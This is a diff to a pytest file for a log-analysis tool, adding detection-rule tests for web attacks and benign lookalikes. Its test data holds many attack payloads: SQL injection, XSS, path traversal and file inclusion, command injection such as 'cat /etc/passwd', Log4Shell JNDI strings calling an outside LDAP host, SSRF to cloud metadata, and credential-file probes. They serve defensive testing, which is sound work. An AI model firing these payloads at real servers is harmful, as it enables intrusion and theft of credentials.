@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import dataclasses
 import datetime as dt
 
 import pytest
@@ -9,6 +10,8 @@ import pytest
 from mamori.analysers.logs.analyser import load_pack
 from mamori.analysers.logs.dedupe import Alert
 from mamori.analysers.logs.events import LogEvent, LogSource
+from mamori.analysers.logs.ingest.interface import SourceInfo
+from mamori.analysers.logs.ingest.webaccess import WebAccessFormat
 from mamori.analysers.logs.sigma_load import BUILTIN_RULES, load_rules
 
 T0 = dt.datetime(2026, 3, 3, 10, 0, tzinfo=dt.UTC)
@@ -22,11 +25,22 @@ def linux(service: str, sec: int = 0, raw: str = "", **fields: str) -> LogEvent:
     return LogEvent("auth.log", sec + 1, when, LogSource("linux", service), fields, raw)
 
 
-def web(uri: str, method: str = "GET", agent: str = "Mozilla/5.0", referer: str = "-") -> LogEvent:
-    fields = {"c-ip": IP, "cs-method": method, "c-uri": uri, "sc-status": "200",
-              "cs-user-agent": agent, "cs-referer": referer}  # fmt: skip
-    raw = f'{IP} - - [03/Mar/2026:10:00:00 +0000] "{method} {uri} HTTP/1.1" 200 1 "-" "{agent}"'
-    return LogEvent("access.log", 1, T0, LogSource(category="webserver"), fields, raw)
+def web(
+    uri: str,
+    method: str = "GET",
+    agent: str = "Mozilla/5.0",
+    referer: str = "-",
+    status: str = "200",
+    sec: int = 0,
+    ip: str = IP,
+) -> LogEvent:
+    """An access-log event as the combined-format parser reads it."""
+    raw = (f'{ip} - - [03/Mar/2026:10:00:00 +0000] "{method} {uri} HTTP/1.1" {status} 1 '
+           f'"{referer}" "{agent}"')  # fmt: skip
+    parse = WebAccessFormat().line_parser(SourceInfo("access.log", "access.log", T0))
+    event = parse(raw, sec + 1)
+    assert event is not None, raw
+    return dataclasses.replace(event, ts=T0 + dt.timedelta(seconds=sec))
 
 
 def ssh(sec: int, ok: bool, user: str = "root", ip: str = IP) -> LogEvent:
@@ -61,7 +75,8 @@ NEW_SOURCE = "SSH logins for one user from several source addresses"
 def test_every_rule_in_the_pack_is_exercised_here() -> None:
     loaded = load_rules([BUILTIN_RULES])
     titles = {r.title for r in (*loaded.rules, *loaded.correlations)}
-    tested = {BRUTE, SPRAY, AFTER, NEW_SOURCE, *POSITIVE, *{t for t, _ in SILENT_BASES}}
+    tested = {BRUTE, SPRAY, AFTER, NEW_SOURCE, SCANNING, WEB_BRUTE, *POSITIVE,
+              *{t for t, _ in SILENT_BASES}}  # fmt: skip
     tested |= {"Local user account created", "User added to a privileged group",
                "New local user made privileged"}  # fmt: skip
     assert titles == tested
@@ -107,16 +122,48 @@ POSITIVE: dict[str, list[LogEvent]] = {
         web("/item?id=1%20UNION%20SELECT%20password%20FROM%20users"),
         web("/login?u=admin%27%20or%201=1--"),
         web("/p?id=1;waitfor%20delay%20'0:0:5'"),
+        web("/item?id=1%2520UNION%2520ALL%2520SELECT%2520NULL"),  # double-encoded
+        web("/item?id=1/**/UnIoN/**/SeLeCt/**/1,2"),  # comments for spaces
+        web("/acct?no=7%27%20AND%20%27a%27=%27a"),
+        web("/q?s=x%22%20OR%20%22x%22=%22x"),
     ],
     "Cross-site scripting attempt in a web request": [
         web("/search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
+        web("/search?q=%253Csvg%2520onload%253Dalert%25281%2529%253E"),  # double-encoded
+        web("/p?x=%u003Cscript%u003E"),
         web("/p?x=<img%20src=x%20onerror=alert(1)>"),
         web("/", referer="<script>alert(1)</script>"),
     ],
-    "Path traversal attempt in a web request": [
+    "Path traversal or file inclusion attempt in a web request": [
         web("/download?file=../../../../etc/passwd"),
         web("/static/..%2f..%2f..%2fwindows/win.ini"),
         web("/img?p=%2e%2e%2f%2e%2e%2fapp.conf"),
+        web("/img?p=%252e%252e%252fsecret"),
+        web("/f?p=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/issue"),
+        web("/index.php?page=php://filter/convert.base64-encode/resource=config"),
+    ],
+    "OS command injection attempt in a web request": [
+        web("/ping?host=127.0.0.1;cat%20/etc/passwd"),
+        web("/ping?host=x%7Cid"),
+        web("/dns?name=a$(whoami)"),
+        web("/tools?ip=1.1.1.1%26%26/bin/sh%20-c%20id"),
+    ],
+    "JNDI lookup (Log4Shell) in a web request": [
+        web("/?x=%24%7Bjndi:ldap://203.0.113.9/a%7D"),
+        web("/", agent="${jndi:ldap://203.0.113.9:1389/Exploit}"),
+        web("/", agent="${${lower:j}ndi:${lower:l}dap://x/y}"),
+    ],
+    "Server-side request forgery attempt in a web request": [
+        web("/fetch?url=http://169.254.169.254/latest/meta-data/iam/"),
+        web("/img?src=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F"),
+        web("/proxy?u=gopher://127.0.0.1:6379/_INFO"),
+        web("/fetch?url=http://2852039166/"),
+    ],
+    "Sensitive file probe in a web request": [
+        web("/.env", status="404"),
+        web("/.git/config"),
+        web("/wp-config.php.bak"),
+        web("/%2eaws/credentials"),
     ],
     "Web vulnerability scanner user agent": [
         web("/", agent="sqlmap/1.7.2#stable (https://sqlmap.org)"),
@@ -145,16 +192,39 @@ NEGATIVE: dict[str, list[LogEvent]] = {
         web("/item?id=42&sort=price"),
         web("/blog/union-station-selected-photos"),
         web("/search?q=o%27reilly"),
+        web("/search?q=rock%27n%27roll"),
+        web("/help/select-an-account"),
+        web("/blog/union-select-is-not-a-query"),
     ],
     "Cross-site scripting attempt in a web request": [
         web("/search?q=javascript+tutorial"),
         web("/docs/scripting-guide"),
         web("/", referer="https://example.org/page"),
     ],
-    "Path traversal attempt in a web request": [
+    "Path traversal or file inclusion attempt in a web request": [
         web("/static/css/site.css"),
         web("/files/report.2024.pdf"),
         web("/a/b/c/d"),
+        web("/docs/php-tutorial.html"),
+    ],
+    "OS command injection attempt in a web request": [
+        web("/page;jsessionid=A1B2C3"),
+        web("/search?q=cats%20%7C%20dogs"),
+        web("/search?q=id%20card%20renewal"),
+        web("/a?b=1&c=2&&d=3"),
+    ],
+    "JNDI lookup (Log4Shell) in a web request": [
+        web("/search?q=jndi%20tutorial"),
+        web("/price?fmt=$%7Bamount%7D"),
+    ],
+    "Server-side request forgery attempt in a web request": [
+        web("/fetch?url=https://api.partner.example/rates"),
+        web("/files/169.254.pdf"),
+    ],
+    "Sensitive file probe in a web request": [
+        web("/environment/overview"),
+        web("/.well-known/security.txt"),
+        web("/static/app.js"),
     ],
     "Web vulnerability scanner user agent": [
         web("/", agent="Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"),
@@ -171,7 +241,34 @@ NEGATIVE: dict[str, list[LogEvent]] = {
 SILENT_BASES = [
     ("SSH authentication failure", ssh(0, False)),
     ("SSH authentication success", ssh(0, True)),
+    ("Web request answered 404", web("/missing", status="404")),
+    ("Failed web login", web("/api/login", method="POST", status="401")),
 ]
+
+SCANNING = "Web scanning burst from one address"
+WEB_BRUTE = "Web login brute force from one address"
+
+
+def test_web_scanning_burst() -> None:
+    probes = [web(f"/admin{i}.php", status="404", sec=i) for i in range(40)]
+    assert SCANNING in fired(probes)
+    assert SCANNING not in fired(probes[:39])
+    spread = [web(f"/p{i}", status="404", sec=i, ip=f"198.51.100.{i}") for i in range(40)]
+    assert SCANNING not in fired(spread)
+    found = [web(f"/p{i}", status="200", sec=i) for i in range(40)]
+    assert SCANNING not in fired(found)
+
+
+def test_web_login_brute_force() -> None:
+    guesses = [web("/api/v1/login", method="POST", status="401", sec=i * 5) for i in range(10)]
+    assert WEB_BRUTE in fired(guesses)
+    assert WEB_BRUTE not in fired(guesses[:9])
+    slow = [web("/login", method="POST", status="401", sec=i * 60) for i in range(10)]
+    assert WEB_BRUTE not in fired(slow)  # ten in nine minutes
+    ok = [web("/login", method="POST", status="200", sec=i) for i in range(10)]
+    assert WEB_BRUTE not in fired(ok)
+    pages = [web("/login", method="GET", status="403", sec=i) for i in range(10)]
+    assert WEB_BRUTE not in fired(pages)
 
 
 @pytest.mark.parametrize(("title", "sample"), [(t, e) for t, es in POSITIVE.items() for e in es])
